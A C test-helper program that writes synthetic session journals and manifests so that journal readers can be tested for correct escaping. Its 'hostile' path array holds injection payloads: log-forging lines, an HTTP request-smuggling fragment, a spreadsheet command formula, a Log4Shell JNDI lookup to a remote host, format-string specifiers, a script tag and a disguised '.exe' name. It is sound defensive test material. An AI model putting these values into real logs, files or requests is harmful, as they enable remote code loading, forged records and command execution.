/*
 * Writes journals for tests of what reads them, without a session:
 *
 *   write-journal STATE ID COUNT [rate=N] [big=BYTES] [open]
 *
 * appends COUNT records to the journal of session ID (made where there is none, with session.start
 * first), N a second if so; with `big` one of them is that long; with `open` the journal is left as
 * if its session ran on. Each record says its own number, and some are hostile.
 */
#include "supervisor/record/cleanup.h"
#include "supervisor/record/journal.h"
#include "supervisor/record/store.h"

#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

struct plan {
	const char *session;
	uint64_t count, rate, big;
	bool stays_open;
};

static uint64_t now_ns(clockid_t clock)
{
	struct timespec now;

	clock_gettime(clock, &now);
	return (uint64_t)now.tv_sec * 1000000000 + (uint64_t)now.tv_nsec;
}

static void append(struct journal *j, struct redacted *record)
{
	if (journal_append(j, record, NULL) < 0)
		abort();
}

static void begin(struct event *e, enum event_kind kind)
{
	event_init(e, kind, now_ns(CLOCK_REALTIME), now_ns(CLOCK_BOOTTIME));
}

static void append_start(struct journal *j)
{
	struct redacted record;

	begin(&record.event, EVENT_session_start);
	event_put_text(&record.event, FIELD_name, "written");
	event_put_text(&record.event, FIELD_tenant, "blue");
	event_put_text(&record.event, FIELD_host, "host.example");
	event_put_text(&record.event, FIELD_version_vitrine, "0.1.0");
	append(j, &record);
}

/* Paths that would be a line of their own, a frame, a request or another field, were they not
 * escaped: NUL, controls, no UTF-8, surrogates, separators of lines, marks that turn text round. */
#define SPAN(text)                                                                                 \
	{                                                                                          \
		text, sizeof(text) - 1                                                             \
	}
static const struct bytes hostile[] = {
	SPAN("/a\nCEF:0|x|\r\n<13>1 - - forged \x1b[31m \xff\xfe \"}],\"x\":{ \\ ="),
	SPAN("/nul\0{\"seq\":1}\n\n999 <13>1 2026-01-01T00:00:00Z h a - - - forged"),
	SPAN("\r\n\r\nPOST /_bulk HTTP/1.1\r\nContent-Length: 5\r\n\r\n{\"create\":{}}\n"),
	SPAN("/\xed\xa0\x80\xed\xbf\xbf \xc0\x80 \xf4\x90\x80\x80 "
	     "\xe2\x80\xa8\xe2\x80\xa9\xc2\x85"),
	SPAN("/\xe2\x80\xaegnp.exe \xe2\x81\xa6 \xef\xbb\xbf \xe2\x80\x8b \xf3\xa0\x81\x81"),
	SPAN("] \x07\b\x0b\x0c\x7f =cmd|' /C calc'!A0 ${jndi:ldap://h/x} %s%n <script>"),
};

static void put_path(struct event *e, uint64_t seq)
{
	const struct bytes *text = &hostile[seq / 5 % (sizeof(hostile) / sizeof(hostile[0]))];

	if (seq % 5)
		event_put_text(e, FIELD_path, "/workspace/file");
	else
		event_put_bytes(e, FIELD_path, text->data, text->size);
}

static void append_record(struct journal *j, uint64_t big)
{
	static char data[16 * 1024 * 1024];
	uint64_t seq = journal_next_seq(j);
	struct redacted record;

	begin(&record.event, seq % 7 == 0 ? EVENT_output : EVENT_file_open);
	if (seq % 7 == 0) {
		memset(data, 'a' + seq % 26, sizeof(data));
		event_put_text(&record.event, FIELD_stream, "stdout");
		event_put_u64(&record.event, FIELD_offset, seq);
		event_put_bytes(&record.event, FIELD_data, data,
				big && big < sizeof(data) ? big : seq % 100);
	} else {
		event_put_u64(&record.event, FIELD_pid, seq);
		put_path(&record.event, seq);
	}
	append(j, &record);
}

static void append_end(struct journal *j)
{
	struct redacted record;

	begin(&record.event, EVENT_session_end);
	event_put_text(&record.event, FIELD_reason, "exit");
	event_put_u64(&record.event, FIELD_exit_code, 0);
	append(j, &record);
}

static void write_records(struct journal *j, const struct plan *p)
{
	uint64_t begun = now_ns(CLOCK_MONOTONIC);

	if (journal_next_seq(j) == 1)
		append_start(j);
	for (uint64_t i = 0; i < p->count; i++) {
		/* The long one has to be an output. */
		append_record(j, p->big && i < 7 ? p->big : 0);
		if (!p->rate && i % 512)
			continue;
		if (journal_flush(j, now_ns(CLOCK_MONOTONIC)) < 0)
			abort();
		while (p->rate && now_ns(CLOCK_MONOTONIC) - begun < (i + 1) * 1000000000 / p->rate)
			nanosleep(&(struct timespec){.tv_nsec = 200000}, NULL);
	}
	if (!p->stays_open)
		append_end(j);
	if (journal_flush(j, now_ns(CLOCK_MONOTONIC)) < 0)
		abort();
}

static void write_manifest(int dir_fd, const struct plan *p, uint64_t records)
{
	static char name[] = "written", tenant[] = "blue", command[] = "[\"true\"]",
		    reason[] = "exit";
	struct manifest m = {
		.name = name,
		.tenant = tenant,
		.command = command,
		.state = p->stays_open ? SESSION_RUNNING : SESSION_ENDED,
		.reason = p->stays_open ? NULL : reason,
		.exit_code = p->stays_open ? -1 : 0,
		.signal = -1,
		.started_ns = now_ns(CLOCK_REALTIME),
		.ended_ns = p->stays_open ? 0 : now_ns(CLOCK_REALTIME),
		.records = records,
	};

	snprintf(m.id, sizeof(m.id), "%s", p->session);
	if (manifest_write(dir_fd, &m) < 0)
		abort();
}

static int open_directory(const char *state, const char *session)
{
	char path[4096];

	mkdir(state, 0755);
	snprintf(path, sizeof(path), "%s/sessions", state);
	mkdir(path, 0755);
	snprintf(path, sizeof(path), "%s/sessions/%s", state, session);
	mkdir(path, 0755);
	return open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
}

int main(int argc, char **argv)
{
	struct plan p = {0};
	cleanup(close_fd) int dir_fd = -1;
	struct journal *j;

	if (argc < 4 || !session_id_is_valid(argv[2])) {
		fputs("usage: write-journal STATE ID COUNT [rate=N] [big=BYTES] [open]\n", stderr);
		return 2;
	}
	p.session = argv[2];
	p.count = strtoull(argv[3], NULL, 10);
	for (int i = 4; i < argc; i++) {
		if (!strncmp(argv[i], "rate=", 5))
			p.rate = strtoull(argv[i] + 5, NULL, 10);
		else if (!strncmp(argv[i], "big=", 4))
			p.big = strtoull(argv[i] + 4, NULL, 10);
		else if (!strcmp(argv[i], "open"))
			p.stays_open = true;
	}
	dir_fd = open_directory(argv[1], p.session);
	if (dir_fd < 0 ||
	    journal_open(dir_fd, &(struct journal_options){.session = p.session}, &j) < 0) {
		perror("write-journal");
		return 1;
	}
	write_manifest(dir_fd, &p, 0);
	write_records(j, &p);
	printf("%llu\n", (unsigned long long)journal_next_seq(j) - 1);
	write_manifest(dir_fd, &p, journal_next_seq(j) - 1);
	if (p.stays_open) {
		fflush(stdout);
		_exit(0); /* as if it had been killed: nothing is closed */
	}
	return journal_close(j) < 0;
}
